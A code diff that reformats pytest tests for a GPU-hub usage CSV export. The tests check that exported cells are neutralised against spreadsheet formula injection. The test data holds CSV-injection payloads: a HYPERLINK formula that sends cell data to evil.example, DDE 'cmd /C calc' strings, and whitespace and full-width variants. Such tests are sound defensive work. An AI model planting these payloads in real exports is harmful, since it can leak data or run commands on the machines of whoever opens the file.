@@ -13,8 +13,15 @@ import pytest
 from gpuhub_spawner.usage import cli, history
 from gpuhub_spawner.usage.history import CSV_FIELDS, Row, to_csv
 
-EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]
+EVIL = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
 
 
 @pytest.mark.parametrize("value", EVIL)
@@ -33,16 +40,39 @@ def test_numbers_are_numbers(value):
 
 
 def row(**kw) -> Row:
-    base = dict(user="alice", server="", kind="server", team="vision", profile="gpu-1", flavor="a100", gpus=1,
-                devices="0", requested=1000.0, start=1010.0, end=1100.0, end_reason="stopped", stopped_by="alice",
-                measured_gpu_seconds=0.0, idle_gpu_seconds=0.0)
+    base = dict(
+        user="alice",
+        server="",
+        kind="server",
+        team="vision",
+        profile="gpu-1",
+        flavor="a100",
+        gpus=1,
+        devices="0",
+        requested=1000.0,
+        start=1010.0,
+        end=1100.0,
+        end_reason="stopped",
+        stopped_by="alice",
+        measured_gpu_seconds=0.0,
+        idle_gpu_seconds=0.0,
+    )
     base.update(kw)
     return Row(**base)
 
 
 def test_every_text_cell_of_the_usage_export_is_neutralised():
-    text = {"user": EVIL[0], "server": EVIL[1], "kind": EVIL[2], "team": EVIL[3], "profile": EVIL[4],
-            "flavor": EVIL[5], "devices": "-1", "end_reason": "@reason", "stopped_by": "=admin"}
+    text = {
+        "user": EVIL[0],
+        "server": EVIL[1],
+        "kind": EVIL[2],
+        "team": EVIL[3],
+        "profile": EVIL[4],
+        "flavor": EVIL[5],
+        "devices": "-1",
+        "end_reason": "@reason",
+        "stopped_by": "=admin",
+    }
     out = to_csv([row(**text)], now=2000.0)
     [line] = list(csv.DictReader(io.StringIO(out)))
     assert list(line) == CSV_FIELDS
@@ -63,13 +93,20 @@ def test_a_carriage_return_inside_a_cell_does_not_start_a_row():
 
 
 def test_the_cli_csv_neutralises_names(monkeypatch, capsys):
-    totals = {"=HYPERLINK(\"http://evil.example\")": {"gpu_hours": 1.5, "busy_gpu_hours": 0.5, "idle_gpu_hours": 1.0,
-                                                     "allocations": 2, "culls": 0},
-              "nlp": {"gpu_hours": 0.0, "busy_gpu_hours": 0.0, "idle_gpu_hours": 0.0, "allocations": 0, "culls": 0}}
+    totals = {
+        '=HYPERLINK("http://evil.example")': {
+            "gpu_hours": 1.5,
+            "busy_gpu_hours": 0.5,
+            "idle_gpu_hours": 1.0,
+            "allocations": 2,
+            "culls": 0,
+        },
+        "nlp": {"gpu_hours": 0.0, "busy_gpu_hours": 0.0, "idle_gpu_hours": 0.0, "allocations": 0, "culls": 0},
+    }
     monkeypatch.setattr(cli, "api_base", lambda hub: "http://hub.invalid/hub/api")
     monkeypatch.setattr(cli, "call", lambda base, method, path: {"summary": {"totals": totals}})
     assert cli.main(["--csv", "--by", "user"]) == 0
     rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
     assert rows[0] == ["user", "gpu_hours", "busy_gpu_hours", "idle_gpu_hours", "allocations", "culls"]
-    assert rows[1] == ["'=HYPERLINK(\"http://evil.example\")", "1.5", "0.5", "1.0", "2", "0"]
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example")', "1.5", "0.5", "1.0", "2", "0"]
     assert rows[2] == ["nlp", "0.0", "0.0", "0.0", "0", "0"]
